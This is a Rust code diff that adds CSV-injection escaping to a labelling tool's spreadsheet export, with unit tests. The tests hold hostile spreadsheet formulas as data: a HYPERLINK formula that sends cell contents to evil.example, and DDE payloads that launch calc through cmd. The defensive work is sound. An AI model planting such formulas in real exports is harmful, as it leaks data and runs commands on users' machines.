@@ -94,7 +94,10 @@ pub fn apply_labels(
     for rec in reader.records() {
         let rec = rec.map_err(csv_err(csv))?;
         let line = rec.position().map_or(0, |p| p.line());
-        let (path, label) = (rec.get(pi).unwrap_or(""), rec.get(li).unwrap_or(""));
+        let (path, label) = (
+            unescape_cell(rec.get(pi).unwrap_or("")),
+            rec.get(li).unwrap_or(""),
+        );
         if label.is_empty() {
             continue;
         }
@@ -119,6 +122,22 @@ pub fn apply_labels(
         rows[*i].label = Some(label.clone());
     }
     Ok(updates.len())
+}
+
+/// A cell for a spreadsheet (the OWASP CSV-injection rule): one that begins with `=`, `+`, `-`,
+/// `@`, a tab or a carriage return is prefixed with `'`, so a formula from a device stays text
+/// on the labeller's machine. One that begins with `'` gets another, so [`unescape_cell`]
+/// undoes it exactly. Quoting (commas, quotes, newlines) is the CSV writer's.
+fn escape_cell(cell: &str) -> std::borrow::Cow<'_, str> {
+    match cell.chars().next() {
+        Some('=' | '+' | '-' | '@' | '\t' | '\r' | '\'') => format!("'{cell}").into(),
+        _ => cell.into(),
+    }
+}
+
+/// A cell as [`export_todo`] wrote it, before [`escape_cell`].
+fn unescape_cell(cell: &str) -> &str {
+    cell.strip_prefix('\'').unwrap_or(cell)
 }
 
 /// Where a row's image goes under the images directory, without its extension: `DEVICE/ID`,
@@ -169,7 +188,7 @@ pub fn export_todo(rows: &[CaptureRow], csv: &Path) -> Result<usize, LabelError>
         let at = chrono::DateTime::from_timestamp_micros(r.captured_at)
             .map(|t| t.to_rfc3339())
             .unwrap_or_default();
-        w.write_record([
+        let cells = [
             r.path.as_str(),
             &format!("{stem}-images/{name}"),
             &r.device,
@@ -180,10 +199,95 @@ pub fn export_todo(rows: &[CaptureRow], csv: &Path) -> Result<usize, LabelError>
             &r.reason,
             &at,
             "",
-        ])
-        .map_err(csv_err(csv))?;
+        ];
+        w.write_record(cells.map(escape_cell).iter().map(|c| c.as_bytes()))
+            .map_err(csv_err(csv))?;
         n += 1;
     }
     w.flush().map_err(io_err(csv))?;
     Ok(n)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn row(path: &str, model: &str, predicted: &str, reason: &str) -> CaptureRow {
+        CaptureRow {
+            content: vec![0; 4],
+            path: path.into(),
+            device: path.split('/').next().unwrap_or_default().into(),
+            model: model.into(),
+            version: 1,
+            predicted: predicted.into(),
+            score: 0.5,
+            reason: reason.into(),
+            captured_at: 0,
+            label: None,
+        }
+    }
+
+    #[test]
+    fn formula_cells_are_escaped_and_the_rest_kept() {
+        for (cell, out) in [
+            ("=1+1", "'=1+1"),
+            ("+cmd", "'+cmd"),
+            ("-2", "'-2"),
+            ("@SUM(A1)", "'@SUM(A1)"),
+            ("\tx", "'\tx"),
+            ("\rx", "'\rx"),
+            ("'x", "''x"),
+            ("cat", "cat"),
+            ("a=b", "a=b"),
+            ("", ""),
+        ] {
+            assert_eq!(escape_cell(cell), out);
+            assert_eq!(unescape_cell(&escape_cell(cell)), cell);
+        }
+    }
+
+    /// Device-chosen strings that a spreadsheet would run: every one is text in the export, quoted
+    /// where it has commas, quotes or newlines, and the exported paths label their rows again.
+    #[test]
+    fn hostile_cells_are_exported_as_text_and_read_back() {
+        let dir = tempfile::tempdir().unwrap();
+        let csv = dir.path().join("todo.csv");
+        let hyperlink = r#"=HYPERLINK("http://evil.example/?d="&A1,"click")"#;
+        let mut rows = vec![
+            row(
+                "-dev/1-1",
+                hyperlink,
+                "+cmd|' /C calc'!A0",
+                "@SUM(1+1)*cmd|' /C calc'!A0",
+            ),
+            row("pi/1-2", "m", "say \"hi\",\nthen=1", "\t=1+1"),
+        ];
+        assert_eq!(export_todo(&rows, &csv).unwrap(), 2);
+        let text = std::fs::read_to_string(&csv).unwrap();
+        assert!(text.contains("\"say \"\"hi\"\",\nthen=1\""), "{text}");
+        let mut reader = csv::Reader::from_path(&csv).unwrap();
+        let got: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
+        let cells = |i: usize| [0, 2, 3, 5, 7].map(|c| got[i][c].to_string());
+        assert_eq!(
+            cells(0),
+            [
+                "'-dev/1-1".to_string(),
+                "'-dev".into(),
+                format!("'{hyperlink}"),
+                "'+cmd|' /C calc'!A0".into(),
+                "'@SUM(1+1)*cmd|' /C calc'!A0".into(),
+            ]
+        );
+        assert_eq!(cells(1)[3..], ["say \"hi\",\nthen=1", "'\t=1+1"]);
+        for (i, first) in got.iter().flat_map(|r| r.iter()).enumerate() {
+            assert!(
+                !first.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "cell {i}: {first}"
+            );
+        }
+        let filled = dir.path().join("filled.csv");
+        std::fs::write(&filled, "path,label\n'-dev/1-1,cat\n").unwrap();
+        assert_eq!(apply_labels(&mut rows, &filled, true).unwrap(), 1);
+        assert_eq!(rows[0].label.as_deref(), Some("cat"));
+    }
 }
